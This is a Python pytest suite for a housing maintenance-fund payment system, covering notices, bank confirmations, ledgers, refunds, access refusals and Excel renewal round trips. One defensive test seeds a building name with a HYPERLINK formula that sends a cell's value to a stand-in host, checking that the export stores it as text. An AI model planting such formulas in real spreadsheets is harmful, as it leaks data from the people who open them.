"""Deposits and payments end to end through HTTP: notices, bank confirmation, ledger, refunds,
renewal by Excel, and the refusals of each."""

import asyncio
from decimal import Decimal

import pytest
from sqlalchemy import func, select

from core.ids import decode_id, encode_id
from models import Building, House, LedgerEntry, Payment
from models.enums import Role
from tests.api import gql
from tests.appflow import make_paying_world, pdf_pages, step, tree, wait_job
from tests.factories import login, make_user
from tests.sheets import XLSX

NOTICE = "id number type status total payerKind payerName bankAccount lines { amount house { id code } } building { id }"
CONFIRM = """mutation($input: ConfirmPaymentInput!) { confirmPayment(input: $input) { id amount bankTransactionId notice { number status } } }"""


@pytest.fixture
async def world(client, session, worker):
    return await make_paying_world(client, session)


async def assert_totals_add_up(client, world):
    """Estate and building totals equal the sums of their houses, and each house's balance the
    sum of its ledger entries."""
    q = """query($id: ID!) { estate(id: $id) { depositDue depositPaid balance buildings { depositDue depositPaid balance
            houses { depositDue depositPaid balance status ledger { amount balanceAfter } } } } }"""
    estate = (await gql(client, q, {"id": world.estate_gid}, token=world.dev)).ok()["estate"]
    for key in ("depositDue", "depositPaid", "balance"):
        assert Decimal(estate[key]) == sum(Decimal(b[key]) for b in estate["buildings"])
        for b in estate["buildings"]:
            assert Decimal(b[key]) == sum(Decimal(h[key]) for h in b["houses"] if h["status"] != "PENDING")
    for b in estate["buildings"]:
        for h in b["houses"]:
            assert Decimal(h["balance"]) == sum((Decimal(e["amount"]) for e in h["ledger"]), Decimal(0))
            if h["ledger"]:
                assert h["ledger"][-1]["balanceAfter"] == h["balance"]


async def confirm(client, world, notice, tx, amount=None, at="2026-11-27T10:00:00+08:00"):
    return await gql(client, CONFIRM, {"input": {"noticeNumber": notice["number"], "amount": amount or notice["total"],
                                                 "bankTransactionId": tx, "paidAt": at, "channel": "BANK_COUNTER"}},
                     token=world.bank_token)


async def test_building_notices_bank_confirmation_and_balances(client, session, world):
    estate = await tree(client, world)
    building_ids = [b["id"] for b in estate["buildings"]]
    issued = (await gql(client, f"mutation($ids: [ID!]!) {{ issueBuildingNotices(buildingIds: $ids) {{ {NOTICE} }} }}",
                        {"ids": building_ids}, token=world.dev)).ok()["issueBuildingNotices"]
    assert len(issued) == 2 and all(n["status"] == "ISSUED" and n["payerKind"] == "DEVELOPER" for n in issued)
    assert all(len(n["lines"]) == 6 for n in issued)
    first = issued[0]
    assert Decimal(first["total"]) == sum(Decimal(l["amount"]) for l in first["lines"]) > 0
    # Issuing again: every unpaid house is on an ISSUED notice.
    again = await gql(client, f"mutation($ids: [ID!]!) {{ issueBuildingNotices(buildingIds: $ids) {{ {NOTICE} }} }}",
                      {"ids": building_ids}, token=world.dev)
    assert again.code == "CONFLICT" and again.errors[0]["extensions"]["noticeNumber"] == issued[0]["number"]

    # Refusals: wrong amount, unknown notice, a developer confirming.
    assert (await confirm(client, world, first, "TX-1", amount="1.00")).code == "AMOUNT_MISMATCH"
    assert (await confirm(client, world, {**first, "number": "JC000"}, "TX-1")).code == "NOT_FOUND"
    r = await gql(client, CONFIRM, {"input": {"noticeNumber": first["number"], "amount": first["total"], "bankTransactionId": "TX-1",
                                              "paidAt": "2026-11-27T10:00:00+08:00", "channel": "POS"}}, token=world.dev)
    assert r.code == "FORBIDDEN"
    r = await gql(client, CONFIRM, {"input": {"noticeNumber": first["number"], "amount": first["total"], "bankTransactionId": "TX-1",
                                              "paidAt": "2026-11-27T10:00:00", "channel": "POS"}}, token=world.bank_token)
    assert r.code == "VALIDATION_FAILED"  # a DateTime without offset
    r = await gql(client, CONFIRM.replace("$input: ConfirmPaymentInput!", "$input: ConfirmPaymentInput!"),
                  {"input": {"noticeNumber": first["number"], "amount": 100.5, "bankTransactionId": "TX-1",
                             "paidAt": "2026-11-27T10:00:00+08:00", "channel": "POS"}}, token=world.bank_token)
    assert r.code == "VALIDATION_FAILED"  # a Decimal as a JSON number

    paid = (await confirm(client, world, first, "TX-1")).ok()["confirmPayment"]
    assert paid["notice"]["status"] == "PAID"
    same = (await confirm(client, world, first, "TX-1")).ok()["confirmPayment"]
    assert same["id"] == paid["id"]
    for _ in range(200):  # the 交款证明 is rendered in the background and can be printed again
        receipt = (await gql(client, "query($id: ID!) { node(id: $id) { ... on Payment { receipt { url } } } }",
                             {"id": paid["id"]}, token=world.bank_token)).ok()["node"]["receipt"]
        if receipt:
            break
        await asyncio.sleep(0.1)
    assert (await client.get(receipt["url"])).content.startswith(b"%PDF")
    assert (await confirm(client, world, first, "TX-2")).code == "ALREADY_PAID"
    houses = {h["id"]: h for h in (await tree(client, world))["buildings"][0]["houses"]}
    for line in first["lines"]:
        assert houses[line["house"]["id"]]["balance"] == line["amount"]
    await assert_totals_add_up(client, world)

    # Cancel the other notice; paying it is refused; the houses can be issued again.
    second = issued[1]
    cancelled = (await gql(client, "mutation($id: ID!) { cancelPaymentNotice(id: $id) { status } }", {"id": second["id"]},
                           token=world.dev)).ok()["cancelPaymentNotice"]
    assert cancelled["status"] == "CANCELLED"
    assert (await confirm(client, world, second, "TX-3")).code == "INVALID_STATE"
    reissued = (await gql(client, f"mutation($ids: [ID!]!) {{ issueBuildingNotices(buildingIds: $ids) {{ {NOTICE} }} }}",
                          {"ids": [second["building"]["id"]]}, token=world.dev)).ok()["issueBuildingNotices"]
    assert len(reissued) == 1

    # 对账: the bank's payments of the day, with their total; a developer is refused.
    day = (await gql(client, '{ payments(date: "2026-11-27") { totalCount totalAmount edges { node { bankTransactionId } } } }',
                     token=world.bank_token)).ok()["payments"]
    assert day["totalCount"] == 1 and day["totalAmount"] == first["total"]
    assert (await gql(client, '{ payments(date: "2026-11-27") { totalCount } }', token=world.dev)).code == "FORBIDDEN"
    # Each notice's PDF is rendered in the background; many print into one file.
    q = "query($n: String!) { paymentNotice(number: $n) { document { url } } }"
    for _ in range(200):
        doc = (await gql(client, q, {"n": first["number"]}, token=world.dev)).ok()["paymentNotice"]["document"]
        if doc:
            break
        await asyncio.sleep(0.1)
    assert (await client.get(doc["url"])).content.startswith(b"%PDF")
    job = (await gql(client, "mutation($ids: [ID!]!) { printPaymentNotices(ids: $ids) { id } }",
                     {"ids": [first["id"], reissued[0]["id"]]}, token=world.dev)).ok()["printPaymentNotices"]
    printed = await wait_job(client, world.dev, job["id"])
    assert printed["status"] == "SUCCEEDED" and printed["total"] == 2
    assert (await client.get(printed["result"]["url"])).content.startswith(b"%PDF")
    r = await gql(client, "mutation($ids: [ID!]!) { printPaymentNotices(ids: $ids) { id } }", {"ids": [first["id"]]}, token=world.rival)
    assert r.code == "NOT_FOUND"


async def test_fifty_concurrent_confirmations_make_one_payment(client, session, world):
    building = (await tree(client, world))["buildings"][0]
    notice = (await gql(client, f"mutation($ids: [ID!]!) {{ issueBuildingNotices(buildingIds: $ids) {{ {NOTICE} }} }}",
                        {"ids": [building["id"]]}, token=world.dev)).ok()["issueBuildingNotices"][0]
    results = await asyncio.gather(*[confirm(client, world, notice, "TX-SAME") for _ in range(50)])
    assert all(not r.errors for r in results), [r.errors for r in results if r.errors][:1]
    assert len({r.data["confirmPayment"]["id"] for r in results}) == 1
    assert await session.scalar(select(func.count()).select_from(Payment)) == 1
    house_ids = [decode_id(l["house"]["id"], "House") for l in notice["lines"]]
    credits = await session.scalar(select(func.count()).select_from(LedgerEntry).where(LedgerEntry.house_id.in_(house_ids)))
    assert credits == len(house_ids)
    await assert_totals_add_up(client, world)


async def test_owner_notices(client, session, world):
    house = (await tree(client, world))["buildings"][1]["houses"][0]
    q = f"mutation($items: [OwnerNoticeItemInput!]!) {{ issueOwnerNotices(items: $items) {{ {NOTICE} }} }}"
    bad = [{"houseId": house["id"], "owners": [{"name": "王五", "idType": "RESIDENT_ID", "idNumber": "440703199001011234", "phone": "13800138000"}]}]
    r = await gql(client, q, {"items": bad}, token=world.dev)
    assert r.code == "VALIDATION_FAILED" and r.errors[0]["extensions"]["field"] == "items.0.owners.0.idNumber"
    good = [{"houseId": house["id"], "owners": [{"name": "王五", "idType": "RESIDENT_ID", "idNumber": "11010519491231002X", "phone": "13800138000"}]}]
    notice = (await gql(client, q, {"items": good}, token=world.dev)).ok()["issueOwnerNotices"][0]
    assert notice["payerKind"] == "OWNER" and notice["payerName"] == "王五" and len(notice["lines"]) == 1
    again = await gql(client, q, {"items": good}, token=world.dev)
    assert again.code == "CONFLICT" and again.errors[0]["extensions"]["noticeNumber"] == notice["number"]
    owners = (await gql(client, "query($id: ID!) { house(id: $id) { owners { name idNumber } } }", {"id": house["id"]}, token=world.dev)).ok()
    assert owners["house"]["owners"] == [{"name": "王五", "idNumber": "11010519491231002X"}]
    # Another organisation, and a bank, get nothing.
    assert (await gql(client, q, {"items": good}, token=world.rival)).code == "NOT_FOUND"
    assert (await gql(client, q, {"items": good}, token=world.bank_token)).code == "FORBIDDEN"
    mine = (await gql(client, "query($n: String!) { paymentNotice(number: $n) { number } }", {"n": notice["number"]}, token=world.rival)).ok()
    assert mine["paymentNotice"] is None
    assert (await gql(client, "query($n: String!) { paymentNotice(number: $n) { number } }", {"n": notice["number"]},
                      token=world.bank_token)).ok()["paymentNotice"]["number"] == notice["number"]


async def test_info_change_lowering_an_area_refunds_and_the_clerk_completes_it(client, session, world):
    building = (await tree(client, world))["buildings"][0]
    notice = (await gql(client, f"mutation($ids: [ID!]!) {{ issueBuildingNotices(buildingIds: $ids) {{ {NOTICE} }} }}",
                        {"ids": [building["id"]]}, token=world.dev)).ok()["issueBuildingNotices"][0]
    (await confirm(client, world, notice, "TX-A")).ok()
    house = (await tree(client, world))["buildings"][0]["houses"][0]
    smaller = (Decimal(house["buildingArea"]) - Decimal("10.00")).quantize(Decimal("0.01"))
    app = (await gql(client, "mutation($input: HouseInfoChangeInput!) { createHouseInfoChange(input: $input) { id needsRefundAccount depositImpact { dueBefore dueAfter paid refund makeUp } } }",
                     {"input": {"estateId": world.estate_gid, "reason": "测绘面积减少", "items": [{"houseId": house["id"], "buildingArea": str(smaller)}]}},
                     token=world.dev)).ok()["createHouseInfoChange"]
    assert app["needsRefundAccount"] is True
    impact = app["depositImpact"][0]
    assert Decimal(impact["refund"]) == Decimal(impact["paid"]) - Decimal(impact["dueAfter"]) > 0
    missing = await step(client, world.dev, "submitApplication", app["id"])
    assert missing.code == "VALIDATION_FAILED" and missing.errors[0]["extensions"]["field"] == "refundAccount"
    r = await gql(client, 'mutation($id: ID!) { submitApplication(id: $id, refundAccount: {accountName: "江门示例置业", bankName: "工行", accountNumber: "6222000011112222"}) { status } }',
                  {"id": app["id"]}, token=world.dev)
    assert r.ok()["submitApplication"]["status"] == "SUBMITTED"
    (await step(client, world.clerk, "acceptApplication", app["id"])).ok()
    (await step(client, world.clerk, "approveApplication", app["id"])).ok()
    refunds = (await gql(client, "query($id: ID!) { application(id: $id) { refunds { id amount status accountNumber } } }",
                         {"id": app["id"]}, token=world.dev)).ok()["application"]["refunds"]
    assert len(refunds) == 1 and refunds[0]["status"] == "PENDING" and refunds[0]["amount"] == impact["refund"]
    assert (await gql(client, "mutation($id: ID!) { completeRefund(id: $id) { status } }", {"id": refunds[0]["id"]}, token=world.dev)).code == "FORBIDDEN"
    done = (await gql(client, "mutation($id: ID!) { completeRefund(id: $id) { status completedAt } }", {"id": refunds[0]["id"]},
                      token=world.clerk)).ok()["completeRefund"]
    assert done["status"] == "COMPLETED"
    again = await gql(client, "mutation($id: ID!) { completeRefund(id: $id) { status } }", {"id": refunds[0]["id"]}, token=world.clerk)
    assert again.code == "INVALID_STATE"
    after = (await gql(client, "query($id: ID!) { house(id: $id) { depositDue depositPaid balance ledger { kind amount } } }",
                       {"id": house["id"]}, token=world.dev)).ok()["house"]
    assert after["depositDue"] == impact["dueAfter"] and after["balance"] == impact["dueAfter"] == after["depositPaid"]
    assert [e["kind"] for e in after["ledger"]] == ["DEPOSIT", "REFUND"]
    await assert_totals_add_up(client, world)
    for _ in range(200):  # the 退款申请表 is rendered in the background
        form = (await gql(client, "query($id: ID!) { application(id: $id) { refunds { form { url } } } }", {"id": app["id"]},
                          token=world.dev)).ok()["application"]["refunds"][0]["form"]
        if form:
            break
        await asyncio.sleep(0.1)
    pdf = await client.get(form["url"])
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")


async def test_standards_are_set_by_clerks_only(client, world):
    q = 'mutation($input: DepositStandardInput!) { setDepositStandard(input: $input) { id name rate effectiveFrom } }'
    good = {"input": {"name": "住宅高层", "usage": "RESIDENTIAL", "hasElevator": True, "minFloors": 7, "basis": "PER_SQUARE_METRE",
                      "rate": "75.50", "effectiveFrom": "2026-01-01"}}
    assert (await gql(client, q, good, token=world.dev)).code == "FORBIDDEN"
    assert (await gql(client, q, {"input": {**good["input"], "rate": 75.5}}, token=world.clerk)).code == "VALIDATION_FAILED"
    assert (await gql(client, q, {"input": {**good["input"], "rate": "1e2"}}, token=world.clerk)).code == "VALIDATION_FAILED"
    assert (await gql(client, q, {"input": {**good["input"], "rate": "-1"}}, token=world.clerk)).code == "VALIDATION_FAILED"
    made = (await gql(client, q, good, token=world.clerk)).ok()["setDepositStandard"]
    assert made["rate"] == "75.50" and made["effectiveFrom"] == "2026-01-01"
    listed = (await gql(client, "{ depositStandards { name } }", token=world.dev)).ok()["depositStandards"]
    assert any(s["name"] == "住宅高层" for s in listed)
    job = (await gql(client, "mutation { recalculateDeposits { id } }", token=world.clerk)).ok()["recalculateDeposits"]
    assert (await gql(client, "mutation { recalculateDeposits { id } }", token=world.dev)).code == "FORBIDDEN"
    done = await wait_job(client, world.clerk, job["id"])
    assert done["status"] == "SUCCEEDED" and done["result"]["filename"].endswith(".xlsx")


async def test_renewal_round_trip_through_excel(client, session, world):
    import io

    from openpyxl import load_workbook

    every = [h["id"] for b in (await tree(client, world))["buildings"] for h in b["houses"]]
    exported = (await gql(client, "mutation($e: ID!, $h: [ID!]) { exportRenewalAmounts(estateId: $e, houseIds: $h) { id } }",
                          {"e": world.estate_gid, "h": every}, token=world.dev)).ok()["exportRenewalAmounts"]
    done = await wait_job(client, world.dev, exported["id"])
    assert done["status"] == "SUCCEEDED" and done["total"] == 12  # the houses chosen (by default only those that paid)
    data = (await client.get(done["result"]["url"])).content
    wb = load_workbook(io.BytesIO(data))
    ws = wb.active
    header = [c.value for c in ws[1]]
    assert header == ["房屋编号", "楼幢名称", "单元", "楼层", "房号", "建筑面积", "首期应交", "当前余额", "本次交款金额"]
    rows = list(ws.iter_rows(min_row=2))
    rows[0][8].value = 123.45
    for row in rows[2:]:
        row[8].value = None  # left out
    out = io.BytesIO()
    wb.save(out)
    q = "mutation($e: ID!, $file: Upload!) { importCustomAmounts(estateId: $e, type: RENEWAL, file: $file) { id } }"
    job = (await gql(client, q, {"e": world.estate_gid, "file": None}, token=world.dev,
                     files={"variables.file": ("续筹.xlsx", out.getvalue(), XLSX)})).ok()["importCustomAmounts"]
    result = await wait_job(client, world.dev, job["id"])
    assert result["status"] == "SUCCEEDED", result
    notices = (await gql(client, "query($id: ID!) { job(id: $id) { paymentNotices { type total lines { house { code } } } } }",
                         {"id": job["id"]}, token=world.dev)).ok()["job"]["paymentNotices"]
    assert len(notices) == 2 and {n["type"] for n in notices} == {"RENEWAL"}
    assert notices[0]["total"] == "123.45" and notices[0]["lines"][0]["house"]["code"] == rows[0][0].value
    # A bad amount: every row checked, nothing issued.
    rows[1][8].value = "abc"
    out = io.BytesIO()
    wb.save(out)
    bad = (await gql(client, q, {"e": world.estate_gid, "file": None}, token=world.dev,
                     files={"variables.file": ("续筹.xlsx", out.getvalue(), XLSX)})).ok()["importCustomAmounts"]
    failed = await wait_job(client, world.dev, bad["id"])
    assert failed["status"] == "FAILED" and {e["code"] for e in failed["errors"]} >= {"BAD_NUMBER", "DUPLICATE"}


async def test_cancellation_with_balance_refunds_and_cancels_open_notices(client, session, world):
    building = (await tree(client, world))["buildings"][0]
    notice = (await gql(client, f"mutation($ids: [ID!]!) {{ issueBuildingNotices(buildingIds: $ids) {{ {NOTICE} }} }}",
                        {"ids": [building["id"]]}, token=world.dev)).ok()["issueBuildingNotices"][0]
    (await confirm(client, world, notice, "TX-C")).ok()
    houses = (await tree(client, world))["buildings"][0]["houses"]
    paid_house = next(h for h in houses if Decimal(h["balance"]) > 0)
    custom = (await gql(client, "mutation($input: CustomNoticesInput!) { issueCustomNotices(input: $input) { number status } }",
                        {"input": {"type": "OTHER", "items": [{"houseId": paid_house["id"], "amount": "10.00"}]}}, token=world.dev)).ok()
    number = custom["issueCustomNotices"][0]["number"]
    app = (await gql(client, "mutation($input: HouseCancellationInput!) { createHouseCancellation(input: $input) { id } }",
                     {"input": {"estateId": world.estate_gid, "reason": "灭失", "houseIds": [paid_house["id"]]}}, token=world.dev)).ok()["createHouseCancellation"]
    r = await gql(client, 'mutation($id: ID!) { submitApplication(id: $id, refundAccount: {accountName: "业主", bankName: "农行", accountNumber: "6228"}) { status } }',
                  {"id": app["id"]}, token=world.dev)
    r.ok()
    # A locked house gets no new notice.
    blocked = await gql(client, "mutation($input: CustomNoticesInput!) { issueCustomNotices(input: $input) { number } }",
                        {"input": {"type": "OTHER", "items": [{"houseId": paid_house["id"], "amount": "5.00"}]}}, token=world.dev)
    assert blocked.code == "HOUSE_LOCKED"
    (await step(client, world.clerk, "acceptApplication", app["id"])).ok()
    approved = (await step(client, world.clerk, "approveApplication", app["id"])).ok()["approveApplication"]
    assert number in approved["history"][-1]["comment"]
    state = (await gql(client, "query($n: String!) { paymentNotice(number: $n) { status } }", {"n": number}, token=world.dev)).ok()
    assert state["paymentNotice"]["status"] == "CANCELLED"
    refunds = (await gql(client, "query($id: ID!) { application(id: $id) { refunds { amount } } }", {"id": app["id"]}, token=world.dev)).ok()
    assert refunds["application"]["refunds"][0]["amount"] == paid_house["balance"]
    await assert_totals_add_up(client, world)


async def test_every_payment_mutation_refuses_other_organisations_and_roles(client, session, world):
    building = (await tree(client, world))["buildings"][0]
    house = building["houses"][0]
    notice = (await gql(client, f"mutation($ids: [ID!]!) {{ issueBuildingNotices(buildingIds: $ids) {{ {NOTICE} }} }}",
                        {"ids": [building["id"]]}, token=world.dev)).ok()["issueBuildingNotices"][0]
    file = {"variables.file": ("x.xlsx", b"PK\x03\x04 not really", XLSX)}
    cases = [
        ("mutation($ids: [ID!]!) { issueBuildingNotices(buildingIds: $ids) { id } }", {"ids": [building["id"]]}, None),
        ('mutation($h: ID!) { issueCustomNotices(input: {type: OTHER, items: [{houseId: $h, amount: "1.00"}]}) { id } }', {"h": house["id"]}, None),
        ("mutation($e: ID!) { exportRenewalAmounts(estateId: $e) { id } }", {"e": world.estate_gid}, None),
        ("mutation($e: ID!, $file: Upload!) { importCustomAmounts(estateId: $e, type: RENEWAL, file: $file) { id } }",
         {"e": world.estate_gid, "file": None}, file),
        ("mutation($id: ID!) { cancelPaymentNotice(id: $id) { id } }", {"id": notice["id"]}, None),
        ("mutation($ids: [ID!]!) { printPaymentNotices(ids: $ids) { id } }", {"ids": [notice["id"]]}, None),
    ]
    for query, variables, files in cases:
        rival = await gql(client, query, variables, token=world.rival, files=files)
        assert rival.code == "NOT_FOUND" and rival.data is None, (query, rival)
    for query, variables, files in cases[:4]:
        assert (await gql(client, query, variables, token=world.bank_token, files=files)).code == "FORBIDDEN", query
        assert (await gql(client, query, variables, token=world.clerk, files=files)).code == "FORBIDDEN", query
    # Another bank cannot see or confirm this estate's notices.
    from tests.factories import make_bank

    other_bank = await make_bank(session, code="BANK2")
    await make_user(session, "bank2", [Role.BANK], bank_id=other_bank)
    other = await login(client, "bank2")
    r = await gql(client, CONFIRM, {"input": {"noticeNumber": notice["number"], "amount": notice["total"], "bankTransactionId": "T9",
                                              "paidAt": "2026-11-27T10:00:00+08:00", "channel": "POS"}}, token=other)
    assert r.code == "NOT_FOUND"
    assert (await gql(client, "{ paymentNotices { totalCount } }", token=other)).ok()["paymentNotices"]["totalCount"] == 0
    assert (await gql(client, "{ paymentNotices { totalCount } }", token=world.rival)).ok()["paymentNotices"]["totalCount"] == 0
    assert (await gql(client, "{ paymentNotices { totalCount } }", token=world.bank_token)).ok()["paymentNotices"]["totalCount"] == 1
    assert (await gql(client, "{ refunds { totalCount } }", token=world.bank_token)).code == "FORBIDDEN"
    assert (await gql(client, "mutation { recalculateDeposits { id } }", token=world.bank_token)).code == "FORBIDDEN"
    assert (await gql(client, "mutation($id: ID!) { completeRefund(id: $id) { id } }", {"id": encode_id("Refund", 1)},
                      token=world.clerk)).code == "NOT_FOUND"


async def test_renewal_export_stores_text_as_text_never_a_formula(client, session, world):
    """Issue 12.11: a building named like a formula came out of the 续筹 export as a live formula."""
    import io

    from openpyxl import load_workbook
    from sqlalchemy import update

    formula = '=HYPERLINK("http://example.invalid/?"&A2,"点此查看")'
    await session.execute(update(Building).where(Building.estate_id == world.estate).values(name=formula))
    await session.execute(update(House).where(House.building_id.in_(
        select(Building.id).where(Building.estate_id == world.estate))).values(unit="@SUM(1+1)"))
    await session.commit()
    every = [h["id"] for b in (await tree(client, world))["buildings"] for h in b["houses"]]  # none paid: chosen
    exported = (await gql(client, "mutation($e: ID!, $h: [ID!]) { exportRenewalAmounts(estateId: $e, houseIds: $h) { id } }",
                          {"e": world.estate_gid, "h": every}, token=world.dev)).ok()["exportRenewalAmounts"]
    done = await wait_job(client, world.dev, exported["id"])
    assert done["status"] == "SUCCEEDED", done
    data = (await client.get(done["result"]["url"])).content
    raw = zipfile_text(data, "xl/worksheets/sheet1.xml")
    assert "<f>" not in raw and "<f " not in raw  # no cell holds a formula
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["B2"].value == formula and ws["B2"].data_type == "s"
    assert ws["C2"].value == "@SUM(1+1)" and ws["C2"].data_type == "s"
    assert ws.freeze_panes == "A2"  # the header stays in view
    assert all(ws.cell(2, col).number_format == "0.00" for col in (6, 7, 8, 9))


def zipfile_text(data: bytes, member: str) -> str:
    import io
    import zipfile

    return zipfile.ZipFile(io.BytesIO(data)).read(member).decode("utf-8")


REFUND_ACCOUNT = '{accountName: "江门示例置业", bankName: "工行江门分行", accountNumber: "6222000011112222"}'


async def _pdf_text(client, url: str) -> tuple[str, int]:
    """pdftotext of a stored PDF (whitespace removed) and its page count."""
    import re

    pages = await pdf_pages(client, url)
    return re.sub(r"\s+", "", "".join(pages)), len(pages)


async def _eventually(client, token, query: str, variables: dict, pick):
    for _ in range(300):
        value = pick((await gql(client, query, variables, token=token)).ok())
        if value:
            return value
        await asyncio.sleep(0.1)
    raise AssertionError(f"nothing after 30 s: {query}")


async def _lowered_area_submitted(client, world, houses: int = 2):
    """Paid houses whose area an info change lowers, submitted with a refund account."""
    building = (await tree(client, world))["buildings"][0]
    notice = (await gql(client, f"mutation($ids: [ID!]!) {{ issueBuildingNotices(buildingIds: $ids) {{ {NOTICE} }} }}",
                        {"ids": [building["id"]]}, token=world.dev)).ok()["issueBuildingNotices"][0]
    (await confirm(client, world, notice, f"TX-{notice['number']}")).ok()
    chosen = (await tree(client, world))["buildings"][0]["houses"][:houses]
    items = [{"houseId": h["id"], "buildingArea": str(Decimal(h["buildingArea"]) - Decimal("10.00"))} for h in chosen]
    app = (await gql(client, "mutation($input: HouseInfoChangeInput!) { createHouseInfoChange(input: $input) { id number depositImpact { house { code } refund } } }",
                     {"input": {"estateId": world.estate_gid, "reason": "测绘面积减少", "items": items}}, token=world.dev)).ok()["createHouseInfoChange"]
    r = await gql(client, f'mutation($id: ID!) {{ submitApplication(id: $id, refundAccount: {REFUND_ACCOUNT}) {{ status }} }}',
                  {"id": app["id"]}, token=world.dev)
    assert r.ok()["submitApplication"]["status"] == "SUBMITTED"
    return app, chosen


async def test_submit_renders_the_refund_form_and_approval_keeps_it_when_nothing_changed(client, session, world):
    """Issue 7.10: the 退款申请表 is printable on submit (account given, depositImpact's amounts);
    approval with the same amounts makes it each refund's form, and says nothing more."""
    app, houses = await _lowered_area_submitted(client, world)
    q = "query($id: ID!) { application(id: $id) { refundForm { id url filename kind } } }"
    form = await _eventually(client, world.dev, q, {"id": app["id"]}, lambda d: d["application"]["refundForm"])
    assert form["kind"] == "REFUND_FORM" and form["filename"] == f"退款申请表-{app['number']}.pdf"
    text, pages = await _pdf_text(client, form["url"])
    assert pages == 1
    total = sum(Decimal(i["refund"]) for i in app["depositImpact"])
    for expected in ("住宅专项维修资金退款申请表", app["number"], "江门示例置业", "工行江门分行", "6222000011112222",
                     "测绘面积减少", f"¥{total:,.2f}", "共2套", *(i["house"]["code"] for i in app["depositImpact"]),
                     *(f"{Decimal(i['refund']):,.2f}" for i in app["depositImpact"])):
        assert expected in text, expected
    (await step(client, world.clerk, "acceptApplication", app["id"])).ok()
    approved = (await step(client, world.clerk, "approveApplication", app["id"])).ok()["approveApplication"]
    assert "退款金额已重算" not in (approved["history"][-1]["comment"] or "")
    refunds = (await gql(client, "query($id: ID!) { application(id: $id) { refundForm { id } refunds { amount form { id } } } }",
                         {"id": app["id"]}, token=world.dev)).ok()["application"]
    assert len(refunds["refunds"]) == 2 and all(r["form"]["id"] == refunds["refundForm"]["id"] for r in refunds["refunds"])
    # The refund paid out names the application in its ledger memo.
    refund_id = (await gql(client, "query($id: ID!) { application(id: $id) { refunds { id } } }", {"id": app["id"]},
                           token=world.dev)).ok()["application"]["refunds"][0]["id"]
    (await gql(client, "mutation($id: ID!) { completeRefund(id: $id) { status } }", {"id": refund_id}, token=world.clerk)).ok()
    memos = (await session.scalars(select(LedgerEntry.memo).where(LedgerEntry.kind == "REFUND"))).all()
    assert memos == [f"退款 {app['number']}"]


async def test_approval_rerenders_the_refund_form_when_an_amount_changed(client, session, world):
    from services.payments import ledger
    from models.enums import LedgerKind

    app, houses = await _lowered_area_submitted(client, world)
    q = "query($id: ID!) { application(id: $id) { refundForm { id url } } }"
    printed = await _eventually(client, world.dev, q, {"id": app["id"]}, lambda d: d["application"]["refundForm"])
    # A further payment for the first house arrives before the clerk decides: its refund grows.
    first = decode_id(houses[0]["id"], "House")
    await ledger.post(session, first, LedgerKind.DEPOSIT, Decimal("50.00"), memo="测试交存")
    await session.commit()
    (await step(client, world.clerk, "acceptApplication", app["id"])).ok()
    approved = (await step(client, world.clerk, "approveApplication", app["id"])).ok()["approveApplication"]
    before = {i["house"]["code"]: Decimal(i["refund"]) for i in app["depositImpact"]}
    code = houses[0]["code"]
    note = approved["history"][-1]["comment"]
    assert "退款金额已重算" in note and code in note and "已重新生成退款申请表" in note
    assert f"{before[code]:,.2f} 元改为 {before[code] + 50:,.2f} 元" in note and houses[1]["code"] not in note
    q = "query($id: ID!) { application(id: $id) { refundForm { id } refunds { amount house { code } form { id url } } } }"
    refunds = await _eventually(client, world.dev, q, {"id": app["id"]},
                                lambda d: all(r["form"] for r in d["application"]["refunds"]) and d["application"]["refunds"])
    assert {r["house"]["code"]: Decimal(r["amount"]) for r in refunds} == {**before, code: before[code] + 50}
    for r in refunds:
        assert r["form"]["id"] != printed["id"]
        text, pages = await _pdf_text(client, r["form"]["url"])
        assert pages == 1 and r["house"]["code"] in text and f"¥{Decimal(r['amount']):,.2f}" in text


async def test_the_owner_notice_names_every_way_to_pay(client, world):
    """Issue 7.11: 专户银行柜台, 侨都之窗 and 维修资金专用POS机."""
    house = (await tree(client, world))["buildings"][1]["houses"][0]
    q = f"mutation($items: [OwnerNoticeItemInput!]!) {{ issueOwnerNotices(items: $items) {{ {NOTICE} }} }}"
    items = [{"houseId": house["id"], "owners": [{"name": "王五", "idType": "RESIDENT_ID", "idNumber": "11010519491231002X",
                                                 "phone": "13800138000"}]}]
    notice = (await gql(client, q, {"items": items}, token=world.dev)).ok()["issueOwnerNotices"][0]
    doc = await _eventually(client, world.dev, "query($n: String!) { paymentNotice(number: $n) { document { url } } }",
                            {"n": notice["number"]}, lambda d: d["paymentNotice"]["document"])
    text, pages = await _pdf_text(client, doc["url"])
    assert pages == 1 and notice["number"] in text and "王五" in text
    for way in ("专户银行柜台", "侨都之窗", "维修资金专用POS机"):
        assert way in text, way


async def test_a_confirmation_locks_and_credits_its_houses_in_a_fixed_number_of_statements(client, session, world):
    """A bank confirmation credited its houses one at a time: a lock, an update and a ledger insert
    each, 30 round trips for a 10-house notice (the costliest mutation under bench/load.py). The
    houses are now locked in one statement and written in one flush, whatever their number."""
    from bench.sqlcount import Counter
    from core.db import get_engine

    estate = await tree(client, world)
    issued = (await gql(client, f"mutation($ids: [ID!]!) {{ issueBuildingNotices(buildingIds: $ids) {{ {NOTICE} }} }}",
                        {"ids": [b["id"] for b in estate["buildings"]]}, token=world.dev)).ok()["issueBuildingNotices"]
    notice = issued[0]
    assert len(notice["lines"]) == 6
    with Counter(get_engine()) as counter:
        (await confirm(client, world, notice, "TX-FIXED-1")).ok()
    locks = [s.summary for s in counter.statements if s.sql.startswith("SELECT") and "FOR UPDATE" in s.sql
             and s.summary.startswith("houses:")]
    assert locks == ["houses: houses.id IN (…)"], locks
    writes = [s.sql.split()[:3] for s in counter.statements if s.sql.startswith(("UPDATE houses", "INSERT INTO ledger_entries"))]
    assert len(writes) == 2, writes  # each an executemany of the six houses
    await assert_totals_add_up(client, world)
